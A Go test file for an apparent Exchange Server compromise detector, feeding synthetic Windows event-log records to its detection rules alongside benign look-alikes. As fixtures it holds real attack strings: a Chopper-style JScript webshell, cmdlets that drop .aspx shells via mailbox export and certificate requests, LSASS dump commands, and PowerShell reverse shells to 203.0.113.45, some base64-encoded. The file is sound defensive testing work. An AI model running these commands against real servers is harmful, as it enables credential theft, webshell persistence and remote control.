package eventlog

import (
	"encoding/base64"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/exhunt/exhunt/detect"
	"github.com/exhunt/exhunt/finding"
)

// testEvent is an event as the event log source hands it over.
type testEvent struct {
	provider, channel string
	id                uint32
	level             uint8
	names, values     []string
}

func (t *testEvent) Get(name string) string {
	for i, n := range t.names {
		if n == name {
			return t.values[i]
		}
	}
	return ""
}
func (t *testEvent) Has(name string) bool { return t.Get(name) != "" }
func (t *testEvent) Field(i int) string   { return t.values[i] }
func (t *testEvent) NumFields() int       { return len(t.values) }
func (t *testEvent) Time() (time.Time, bool) {
	return time.Date(2021, 3, 3, 4, 5, 6, 0, time.UTC), true
}
func (t *testEvent) RecordID() uint64 { return 42 }
func (t *testEvent) EventID() uint32  { return t.id }
func (t *testEvent) Provider() string { return t.provider }
func (t *testEvent) Channel() string  { return t.channel }
func (t *testEvent) Computer() string { return "EX01.contoso.local" }
func (t *testEvent) Level() uint8     { return t.level }
func (t *testEvent) Values() []string { return t.values }

// ev builds an event from name/value pairs ("" names for unnamed data).
func ev(provider, channel string, id uint32, level uint8, pairs ...string) *testEvent {
	e := &testEvent{provider: provider, channel: channel, id: id, level: level}
	for i := 0; i+1 < len(pairs); i += 2 {
		e.names = append(e.names, pairs[i])
		e.values = append(e.values, pairs[i+1])
	}
	return e
}

func unnamed(provider, channel string, id uint32, level uint8, values ...string) *testEvent {
	e := &testEvent{provider: provider, channel: channel, id: id, level: level, values: values}
	e.names = make([]string, len(values))
	return e
}

type inspector interface {
	Inspect(*detect.Context, *detect.LogRecord, detect.Emit)
	Literals() []string
}

// run hands the event to the detector as the scan does, after checking
// that one of the detector's literals selects it (else the scan would
// never hand it over).
func run(t *testing.T, d inspector, e *testEvent) []finding.Finding {
	t.Helper()
	rec := &detect.LogRecord{RecordFields: e, Path: "Windows/System32/winevt/Logs/x.evtx", Folder: e.channel, Line: 42}
	var out []finding.Finding
	d.Inspect(&detect.Context{}, rec, func(f finding.Finding) { out = append(out, f) })
	if len(out) > 0 {
		raw := rendered(e)
		selected := false
		for _, l := range d.Literals() {
			if strings.Contains(strings.ToLower(raw), strings.ToLower(l)) {
				selected = true
			}
		}
		if !selected {
			t.Errorf("the detector finds %s but none of its literals selects the record %q", out[0].Rule, raw)
		}
	}
	return out
}

// rendered is the raw line the event log source renders (source/eventlog).
func rendered(e *testEvent) string {
	var b strings.Builder
	b.WriteString("Provider=" + e.provider + "\tEventID=" + strconv.FormatUint(uint64(e.id), 10) + "\tLevel=" + strconv.FormatUint(uint64(e.level), 10) + "\tChannel=" + e.channel + "\tComputer=EX01.contoso.local")
	for i, v := range e.values {
		b.WriteString("\t")
		if e.names[i] != "" {
			b.WriteString(e.names[i] + "=")
		}
		b.WriteString(v)
	}
	return b.String()
}

func expect(t *testing.T, name string, got []finding.Finding, rule string, sev finding.Severity) {
	t.Helper()
	for _, f := range got {
		if f.Rule == rule {
			if f.Severity != sev {
				t.Errorf("%s: %s severity %v, want %v (%v)", name, rule, f.Severity, sev, f.Evidence)
			}
			return
		}
	}
	t.Errorf("%s: no %s finding (got %v)", name, rule, rules(got))
}

func none(t *testing.T, name string, got []finding.Finding) {
	t.Helper()
	for _, f := range got {
		if f.Severity > finding.Info {
			t.Errorf("%s: false alarm %s (%v): %v", name, f.Rule, f.Severity, f.Evidence)
		}
	}
}

func rules(fs []finding.Finding) []string {
	var out []string
	for _, f := range fs {
		out = append(out, f.Rule+"/"+f.Severity.String())
	}
	return out
}

const umProvider = "MSExchange Unified Messaging"

func TestUMErrors(t *testing.T) {
	invalidCast := "An unhandled exception occurred in a UM worker process: System.InvalidCastException: Unable to cast object of type 'System.Windows.Data.ObjectDataProvider' to type 'Microsoft.Exchange.UM.UMCommon.UMMailboxRecipient'."
	expect(t, "InvalidCast", run(t, UMErrors{}, unnamed(umProvider, "Application", 1148, 2, invalidCast)), RuleUMDeserialization.ID, finding.High)
	watson := unnamed("MSExchange Common", "Application", 4999, 2, "Watson report about to be sent for process id: 4444, with parameters: E12IIS, c-RTL-AMD64, 15.01.2176.002, UMWorkerProcess, M.Exchange.UM.UMCore, Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties..ctor, System.Runtime.Serialization.SerializationException")
	expect(t, "gadget", run(t, UMErrors{}, watson), RuleUMWorkerCrash.ID, finding.High)
	crash := unnamed("MSExchange Common", "Application", 4999, 2, "Watson report about to be sent for process id: 4444, with parameters: E12, c-RTL-AMD64, 15.01.2176.002, UMWorkerProcess, mscorlib, System.IO.IOException")
	expect(t, "crash", run(t, UMErrors{}, crash), RuleUMWorkerCrash.ID, finding.Medium)

	// Look-alikes: the same exception as a warning, another provider's
	// cast error, a UM worker out of memory, a UM error without a cast.
	none(t, "warning", run(t, UMErrors{}, unnamed(umProvider, "Application", 1148, 3, invalidCast)))
	none(t, "other provider", run(t, UMErrors{}, unnamed("MSExchange OWA", "Application", 1, 2, "System.InvalidCastException in OWA")))
	none(t, "out of memory", run(t, UMErrors{}, unnamed("MSExchange Common", "Application", 4999, 2, "Watson report: UMWorkerProcess, System.OutOfMemoryException, System.InvalidCastException")))
	none(t, "UM error", run(t, UMErrors{}, unnamed(umProvider, "Application", 1040, 2, "The Microsoft Exchange Unified Messaging service could not load the certificate.")))
}

func TestECPErrors(t *testing.T) {
	hit := unnamed("MSExchange Control Panel", "Application", 4, 3, "Current User: NT AUTHORITY\\SYSTEM\nRequest URL: https://localhost:444/ecp/y.js\nCookie: X-BEResource=localhost/EWS/Exchange.asmx?a=~1942062522")
	expect(t, "ssrf", run(t, ECPErrors{}, hit), RuleECPError.ID, finding.High)
	none(t, "ordinary ECP error", run(t, ECPErrors{}, unnamed("MSExchange Control Panel", "Application", 4, 3, "Request URL: https://mail.contoso.com/ecp/PersonalSettings/HomePage.aspx\nException: TimeoutException")))
}

const cmdletProvider = "MSExchange CmdletLogs"

func cmdlet(id uint32, name, params, process string) *testEvent {
	level := uint8(4)
	if id == 6 {
		level = 2
	}
	return unnamed(cmdletProvider, "MSExchange Management", id, level, name, params, "contoso.local/Users/admin", "S-1-5-21-1", "S-1-5-21-1",
		"Remote-ManagementShell-Unknown", process, "", "54", "00:00:00.1", "View Entire Forest: 'False'", "")
}

func TestCmdlets(t *testing.T) {
	script := `-ExternalUrl 'http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>' -Identity 'EX01\OAB (Default Web Site)'`
	expect(t, "oab script", run(t, Cmdlets{}, cmdlet(1, "Set-OabVirtualDirectory", script, "1234 w3wp#MSExchangeECPAppPool")), RuleCmdletVDirScript.ID, finding.Critical)
	expect(t, "oab script failed", run(t, Cmdlets{}, cmdlet(6, "Set-OabVirtualDirectory", script, "1234 w3wp#MSExchangeECPAppPool")), RuleCmdletVDirScript.ID, finding.High)
	expect(t, "export aspx", run(t, Cmdlets{}, cmdlet(1, "New-MailboxExportRequest", `-Mailbox 'administrator@contoso.local' -FilePath '\\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\shell.aspx'`, "4321 w3wp#MSExchangePowerShellAppPool")), RuleCmdletMailboxExport.ID, finding.Critical)
	expect(t, "export share", run(t, Cmdlets{}, cmdlet(1, "New-MailboxExportRequest", `-Mailbox 'ceo' -FilePath '\\fs01\pst$\ceo.pst'`, "4321 w3wp#MSExchangePowerShellAppPool")), RuleCmdletMailboxExport.ID, finding.Medium)
	expect(t, "remove export", run(t, Cmdlets{}, cmdlet(1, "Remove-MailboxExportRequest", `-Identity 'ceo\MailboxExport' -Confirm:$false`, "p")), RuleCmdletRemoveExport.ID, finding.Low)
	expect(t, "role", run(t, Cmdlets{}, cmdlet(1, "New-ManagementRoleAssignment", `-Role "Mailbox Import Export" -User "attacker"`, "p")), RuleCmdletImportExportRole.ID, finding.Medium)
	expect(t, "agent temp", run(t, Cmdlets{}, cmdlet(1, "Install-TransportAgent", `-Name "x" -AssemblyPath "C:\Windows\Temp\agent.dll" -TransportAgentFactory "y"`, "p")), RuleCmdletTransportAgent.ID, finding.High)
	expect(t, "certificate", run(t, Cmdlets{}, cmdlet(1, "New-ExchangeCertificate", `-GenerateRequest -BinaryEncoded -RequestFile '\\localhost\C$\inetpub\wwwroot\aspnet_client\x.aspx' -SubjectName 'c=us'`, "p")), RuleCmdletCertificateDrop.ID, finding.Critical)

	// Look-alikes: an administrator's and Health Manager's ordinary
	// virtual directory settings, certificate requests to a file share.
	none(t, "normal url", run(t, Cmdlets{}, cmdlet(1, "Set-OabVirtualDirectory", `-ExternalUrl 'https://mail.contoso.com/OAB' -Identity 'EX01\OAB (Default Web Site)'`, "1 w3wp#MSExchangeECPAppPool")))
	none(t, "health manager", run(t, Cmdlets{}, cmdlet(1, "Set-OwaVirtualDirectory", `-Identity 'EX01\owa (Default Web Site)' -InternalUrl 'https://ex01.contoso.local/owa'`, "8888 MSExchangeHMWorker")))
	none(t, "get", run(t, Cmdlets{}, cmdlet(1, "Get-OabVirtualDirectory", `-Server 'EX01'`, "1 w3wp#MSExchangeECPAppPool")))
	none(t, "certificate share", run(t, Cmdlets{}, cmdlet(1, "New-ExchangeCertificate", `-GenerateRequest -RequestFile '\\fs01\certs\ex01.req'`, "p")))
}

func sysmon1(image, cmd, parent string) *testEvent {
	return ev("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 1, 4, "Image", image, "CommandLine", cmd, "ParentImage", parent, "User", `NT AUTHORITY\SYSTEM`)
}

func security4688(image, cmd, parent string) *testEvent {
	return ev("Microsoft-Windows-Security-Auditing", "Security", 4688, 0, "SubjectUserName", "EX01$", "SubjectDomainName", "CONTOSO",
		"NewProcessName", image, "CommandLine", cmd, "ParentProcessName", parent)
}

const w3wp = `C:\Windows\System32\inetsrv\w3wp.exe`

func TestProcessCreation(t *testing.T) {
	chopper := `cmd /c cd /d "C:\inetpub\wwwroot\aspnet_client\"&whoami&echo [S]&cd&echo [E]`
	got := run(t, ProcessCreation{}, security4688(`C:\Windows\System32\cmd.exe`, chopper, w3wp))
	expect(t, "chopper", got, RuleChopperCommand.ID, finding.Critical)
	expect(t, "chopper parent", got, RuleWebServerShell.ID, finding.Critical)
	expect(t, "whoami", run(t, ProcessCreation{}, sysmon1(`C:\Windows\System32\whoami.exe`, "whoami /all", w3wp)), RuleWebServerShell.ID, finding.Critical)
	expect(t, "um child", run(t, ProcessCreation{}, sysmon1(`C:\Windows\System32\notepad.exe`, "notepad", `C:\Program Files\Microsoft\Exchange Server\V15\Bin\UMWorkerProcess.exe`)), RuleWebServerShell.ID, finding.High)
	expect(t, "comsvcs", run(t, ProcessCreation{}, sysmon1(`C:\Windows\System32\rundll32.exe`, `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\inetpub\wwwroot\aspnet_client\lsass.dmp full`, `C:\Windows\System32\cmd.exe`)), RuleLsassDump.ID, finding.Critical)
	expect(t, "procdump", run(t, ProcessCreation{}, sysmon1(`C:\root\procdump64.exe`, `procdump64.exe -accepteula -ma lsass.exe C:\root\lsass.dmp`, `C:\Windows\System32\cmd.exe`)), RuleLsassDump.ID, finding.Critical)
	expect(t, "snapin", run(t, ProcessCreation{}, sysmon1(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell -c "Add-PSSnapin Microsoft.Exchange.Management.Powershell.SnapIn; Get-Mailbox | New-MailboxExportRequest -FilePath \\ex01\c$\pst\a.pst"`, `C:\Windows\System32\cmd.exe`)), RuleExchangeSnapin.ID, finding.High)
	expect(t, "7z", run(t, ProcessCreation{}, sysmon1(`C:\ProgramData\7z.exe`, `C:\ProgramData\7z.exe a -t7z -mx9 C:\ProgramData\pst\it.7z C:\ProgramData\pst`, `C:\Windows\System32\cmd.exe`)), RulePostExploitCommand.ID, finding.High)
	expect(t, "rar", run(t, ProcessCreation{}, sysmon1(`C:\ProgramData\rar.exe`, `C:\ProgramData\rar.exe a -hpSecret C:\ProgramData\out.rar C:\Users\ceo\Documents`, `C:\Windows\System32\cmd.exe`)), RulePostExploitCommand.ID, finding.Medium)
	expect(t, "attrib", run(t, ProcessCreation{}, sysmon1(`C:\Windows\System32\attrib.exe`, `attrib +h +s +r C:\inetpub\wwwroot\aspnet_client\system_web\x.aspx`, `C:\Windows\System32\cmd.exe`)), RulePostExploitCommand.ID, finding.Critical)
	expect(t, "nishang", run(t, ProcessCreation{}, sysmon1(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell -nop -c "$client = New-Object System.Net.Sockets.TCPClient('203.0.113.45',443);$stream = $client.GetStream()"`, w3wp)), RuleReverseShell.ID, finding.Critical)
	payload := utf16le(`$c=New-Object Net.Sockets.TCPClient('203.0.113.45',4444);$s=$c.GetStream();iex ([Text.Encoding]::ASCII.GetString($b))`)
	expect(t, "encoded", run(t, ProcessCreation{}, sysmon1(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "powershell.exe -nop -w hidden -e "+payload, `C:\Windows\System32\cmd.exe`)), RuleReverseShell.ID, finding.Critical)
	// Cmdlets run from a command line, and a tab before -enc: the
	// literals select them too (run checks it).
	expect(t, "certificate cmd", run(t, ProcessCreation{}, sysmon1(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell New-ExchangeCertificate -GenerateRequest -RequestFile '\\localhost\c$\inetpub\wwwroot\aspnet_client\shell.aspx'`, `C:\Windows\explorer.exe`)), RuleCmdletCertificateDrop.ID, finding.Critical)
	expect(t, "agent cmd", run(t, ProcessCreation{}, sysmon1(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell Install-TransportAgent -Name x -AssemblyPath C:\Users\Public\agent.dll -TransportAgentFactory y`, `C:\Windows\explorer.exe`)), RuleCmdletTransportAgent.ID, finding.High)
	expect(t, "vdir cmd", run(t, ProcessCreation{}, sysmon1(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell Set-OabVirtualDirectory -ExternalUrl 'http://f/<script language="JScript" runat="server">function Page_Load(){}</script>'`, `C:\Windows\explorer.exe`)), RuleCmdletVDirScript.ID, finding.Critical)
	expect(t, "tab enc", run(t, ProcessCreation{}, sysmon1(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "powershell.exe\t-enc "+payload, `C:\Windows\explorer.exe`)), RuleReverseShell.ID, finding.Critical)
	expect(t, "export cmd", run(t, ProcessCreation{}, sysmon1(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell New-MailboxExportRequest -Mailbox ceo -FilePath \\localhost\c$\inetpub\wwwroot\aspnet_client\a.aspx`, `C:\Windows\System32\cmd.exe`)), RuleCmdletMailboxExport.ID, finding.Critical)

	// Look-alikes: ASP.NET compiling a page, a crashing UM worker's
	// reporter, setup loading the snap-in, an administrator's encoded
	// command without a socket, the console host.
	none(t, "csc", run(t, ProcessCreation{}, sysmon1(`C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe`, `csc.exe /noconfig /fullpaths @"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\owa\x.cmdline"`, w3wp)))
	none(t, "conhost", run(t, ProcessCreation{}, sysmon1(`C:\Windows\System32\conhost.exe`, `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`, w3wp)))
	none(t, "wer", run(t, ProcessCreation{}, sysmon1(`C:\Windows\System32\WerFault.exe`, `C:\Windows\system32\WerFault.exe -u -p 4444 -s 1234`, `C:\Program Files\Microsoft\Exchange Server\V15\Bin\UMWorkerProcess.exe`)))
	none(t, "setup snapin", run(t, ProcessCreation{}, sysmon1(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -command ". '$env:ExchangeInstallPath\bin\RemoteExchange.ps1'; Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; $exserver=Get-ExchangeServer ([Environment]::MachineName) -ErrorVariable exerr 2> $null"`, `C:\Windows\System32\msiexec.exe`)))
	none(t, "admin encoded", run(t, ProcessCreation{}, sysmon1(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "powershell.exe -e "+utf16le("Get-Service MSExchange* | Restart-Service"), `C:\Windows\explorer.exe`)))
	none(t, "ordinary", run(t, ProcessCreation{}, security4688(`C:\Windows\System32\cmd.exe`, `cmd /c echo hello`, `C:\Windows\explorer.exe`)))
	none(t, "unrar", run(t, ProcessCreation{}, sysmon1(`C:\Program Files\WinRAR\UnRAR.exe`, `"C:\Program Files\WinRAR\UnRAR.exe" x C:\Temp\tools.rar C:\Temp\`, `C:\Windows\explorer.exe`)))
}

func utf16le(s string) string {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
	}
	return base64.StdEncoding.EncodeToString(b)
}

func TestFileWrites(t *testing.T) {
	sysmon11 := func(image, target string) *testEvent {
		return ev("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 11, 4, "Image", image, "TargetFilename", target)
	}
	s4663 := func(image, target, mask string) *testEvent {
		return ev("Microsoft-Windows-Security-Auditing", "Security", 4663, 0, "ObjectName", target, "AccessMask", mask, "ProcessName", image)
	}
	um := `C:\Program Files\Microsoft\Exchange Server\V15\Bin\UMWorkerProcess.exe`
	expect(t, "w3wp aspx", run(t, FileWrites{}, sysmon11(w3wp, `C:\inetpub\wwwroot\aspnet_client\discover.aspx`)), RuleWebshellWrite.ID, finding.Critical)
	expect(t, "um aspx 4663", run(t, FileWrites{}, s4663(um, `C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\shell.aspx`, "0x2")), RuleWebshellWrite.ID, finding.Critical)
	expect(t, "w3wp aspx elsewhere", run(t, FileWrites{}, sysmon11(w3wp, `C:\Users\Public\a.aspx`)), RuleWebshellWrite.ID, finding.High)
	expect(t, "um other", run(t, FileWrites{}, sysmon11(um, `C:\Windows\Temp\x.exe`)), RuleUMFileWrite.ID, finding.High)
	expect(t, "agents.config", run(t, FileWrites{}, sysmon11(`C:\Program Files (x86)\Notepad++\notepad++.exe`, `E:\Exchange2016\TransportRoles\Shared\agents.config`)), RuleTransportConfigWrite.ID, finding.Medium)

	none(t, "compiled page", run(t, FileWrites{}, sysmon11(w3wp, `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\owa\1\App_Web_x.aspx`)))
	none(t, "um cache", run(t, FileWrites{}, sysmon11(um, `C:\Program Files\Microsoft\Exchange Server\V15\UnifiedMessaging\temp\CacheCleanup.bin`)))
	none(t, "um log", run(t, FileWrites{}, sysmon11(um, `C:\Program Files\Microsoft\Exchange Server\V15\Logging\UMWorkerProcess\x.LOG`)))
	none(t, "read only", run(t, FileWrites{}, s4663(w3wp, `C:\inetpub\wwwroot\aspnet_client\x.aspx`, "0x1")))
	none(t, "agents by powershell", run(t, FileWrites{}, sysmon11(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `C:\Program Files\Microsoft\Exchange Server\V15\TransportRoles\Shared\agents.config`)))
}

func TestDefender(t *testing.T) {
	det := func(id uint32, threat string) *testEvent {
		return ev("Microsoft-Windows-Windows Defender", "Microsoft-Windows-Windows Defender/Operational", id, 3,
			"Threat Name", threat, "Path", `file:_C:\inetpub\wwwroot\aspnet_client\discover.aspx`, "Action Name", "Quarantine")
	}
	got := run(t, Defender{}, det(1116, "Backdoor:ASP/Chopper.F!dha"))
	expect(t, "chopper", got, RuleDefender.ID, finding.Critical)
	if got[0].Stage != finding.StageWebshellWritten {
		t.Errorf("chopper stage %q", got[0].Stage)
	}
	expect(t, "exmann", run(t, Defender{}, det(1117, "Exploit:Script/Exmann.A!dha")), RuleDefender.ID, finding.Critical)
	expect(t, "other", run(t, Defender{}, det(1116, "PUA:Win32/Presenoker")), RuleDefender.ID, finding.Medium)
	none(t, "health", run(t, Defender{}, ev("Microsoft-Windows-Windows Defender", "Microsoft-Windows-Windows Defender/Operational", 1151, 4, "Product Version", "4.18")))
}

func TestSystemEvents(t *testing.T) {
	expect(t, "1102", run(t, LogClears{}, ev("Microsoft-Windows-Eventlog", "Security", 1102, 4, "SubjectUserName", "admin", "SubjectDomainName", "CONTOSO")), RuleLogCleared.ID, finding.Medium)
	expect(t, "104", run(t, LogClears{}, ev("Microsoft-Windows-Eventlog", "System", 104, 4, "SubjectUserName", "admin", "Channel", "Application")), RuleLogCleared.ID, finding.Medium)
	none(t, "other eventlog event", run(t, LogClears{}, ev("Microsoft-Windows-Eventlog", "System", 6005, 4)))

	svc := func(image string) *testEvent {
		return ev("Service Control Manager", "System", 7045, 4, "ServiceName", "x", "ImagePath", image, "StartType", "demand start", "AccountName", "LocalSystem")
	}
	expect(t, "comspec", run(t, NewServices{}, svc(`%COMSPEC% /b /c start /b /min powershell -nop -w hidden -enc SQBFAFgA`)), RuleNewService.ID, finding.High)
	expect(t, "metasploit", run(t, NewServices{}, svc(`%SYSTEMROOT%\duKhLYUX.exe`)), RuleNewService.ID, finding.High)
	expect(t, "psexec", run(t, NewServices{}, svc(`%SystemRoot%\PSEXESVC.exe`)), RuleNewService.ID, finding.Medium)
	expect(t, "temp", run(t, NewServices{}, svc(`C:\Windows\Temp\agent.exe`)), RuleNewService.ID, finding.Medium)
	ordinary := run(t, NewServices{}, svc(`"C:\Program Files\Veeam\Agent\VeeamAgent.exe"`))
	expect(t, "ordinary", ordinary, RuleNewService.ID, finding.Low)
	if !ordinary[0].Context {
		t.Error("an ordinary service install must be context, not an alarm")
	}

	iis := run(t, IISEvents{}, unnamed("Microsoft-Windows-IIS-W3SVC-WP", "System", 2303, 2, "MSExchangeOWAAppPool", "x"))
	expect(t, "2303", iis, RuleIISWorkerEvent.ID, finding.Low)
	if !iis[0].Context {
		t.Error("IIS errors are context")
	}
	none(t, "IIS start", run(t, IISEvents{}, unnamed("Microsoft-Windows-IIS-W3SVC-WP", "System", 3201, 4, "MSExchangeOWAAppPool")))

	oab := ev("Microsoft-Windows-Security-Auditing", "Security", 5136, 0, "ObjectClass", "msExchOABVirtualDirectory", "AttributeLDAPDisplayName", "msExchExternalHostName",
		"AttributeValue", `http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["x"],"unsafe");}</script>`, "SubjectUserName", "EX01$")
	expect(t, "oab 5136", run(t, DirectoryChanges{}, oab), RuleDirectoryChange.ID, finding.Critical)
	priv := run(t, DirectoryChanges{}, ev("Microsoft-Windows-Security-Auditing", "Security", 5136, 0, "ObjectClass", "domainDNS", "AttributeLDAPDisplayName", "nTSecurityDescriptor",
		"AttributeValue", "O:BAG:BAD:AI(OA;CI;CR;1131f6ad-9c07-11d1-f79f-00c04fc2dcd2;;S-1-5-21-1-2-3-1126)", "SubjectUserName", "EXCHANGE$"))
	expect(t, "privexchange", priv, RuleDirectoryChange.ID, finding.Critical)
	if len(priv) > 0 && !slices.Equal(priv[0].CVEs, []string{"CVE-2019-0686", "CVE-2019-0724"}) {
		t.Errorf("PrivExchange CVEs %v", priv[0].CVEs)
	}
	none(t, "oab url", run(t, DirectoryChanges{}, ev("Microsoft-Windows-Security-Auditing", "Security", 5136, 0, "ObjectClass", "msExchOABVirtualDirectory",
		"AttributeLDAPDisplayName", "msExchExternalHostName", "AttributeValue", "https://mail.contoso.com/OAB")))
}
